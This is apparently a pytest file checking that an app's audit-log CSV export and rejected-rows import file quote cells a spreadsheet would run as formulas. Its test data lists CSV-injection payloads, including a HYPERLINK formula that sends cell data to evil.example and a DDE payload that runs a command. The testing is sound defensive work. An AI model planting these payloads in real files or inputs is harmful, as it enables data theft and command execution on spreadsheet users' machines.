"""Every CSV export neutralises cells a spreadsheet would run as a formula (issue 17, item 5):
the audit log's export and the import's rejected-rows file, with text an attacker chose."""
from __future__ import annotations

import csv
import io

from opinion.spreadsheet import FORMULA_STARTS
from tests.factories import login, make_user

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _no_formula(cells) -> None:
    assert cells, "the export is empty"
    assert [c for c in cells if c[:1] in FORMULA_STARTS] == []


def test_a_log_in_name_that_is_a_formula_is_quoted_in_the_audit_export(app, client, session):
    make_user(session, "admin", "admin")
    for name in ATTACKS:
        assert login(client, name, "guess1234").status_code == 401
    login(client, "admin")
    response = client.get("/audit/export.csv")
    assert response.status_code == 200
    cells = _cells(response.get_data(as_text=True))
    _no_formula(cells)
    assert {"'" + name for name in ATTACKS} <= set(cells)  # quoted, not dropped


def test_the_rejected_rows_file_quotes_formulas_from_the_imported_file(runner, tmp_path):
    path = tmp_path / "hostile.csv"
    rows = [["id", "text", "created_at", "author", "=cmd"]]
    # No time zone: each row is refused, so every hostile cell lands in the rejected-rows file.
    rows += [[f"r{i}", attack, "2026-11-20 10:00", attack, attack] for i, attack in enumerate(ATTACKS)]
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    rejected = tmp_path / "rejected.csv"
    result = runner.invoke(args=["import", str(path), "--rejected", str(rejected)])
    assert f"拒收 {len(ATTACKS)} 条" in result.output, result.output
    cells = _cells(rejected.read_text(encoding="utf-8-sig"))
    _no_formula(cells)
    assert "'=cmd" in cells and cells.count("'-2+3") == 3
